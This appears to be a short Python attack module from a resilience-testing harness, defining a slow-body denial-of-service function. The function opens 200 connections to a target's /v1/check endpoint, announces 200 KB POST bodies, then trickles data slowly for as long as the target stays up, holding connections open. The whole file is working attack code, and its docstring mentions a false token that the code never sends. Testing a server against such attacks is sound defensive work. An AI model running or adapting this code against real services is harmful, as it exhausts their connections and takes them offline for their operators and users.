# SPDX-License-Identifier: Apache-2.0
"""Bodies announced as 200 KB, with a false token, that trickle: each holds a connection and little else."""
import time



def attack(target):
    lines = []
    head = b"POST /v1/check HTTP/1.1\r\nhost: t\r\ncontent-type: application/json\r\ncontent-length: 200000\r\n\r\n"
    for _ in range(200):
        line = target.connect()
        line.sendall(head)
        lines.append(line)
    rounds = 0
    while target.is_on():
        for line in list(lines):
            try:
                line.sendall(b"x" * 1000)
            except OSError:
                lines.remove(line)
        rounds += 1
        time.sleep(0.05)
    for line in lines:
        line.close()
    return f"200 connections, {rounds} KB of body each"
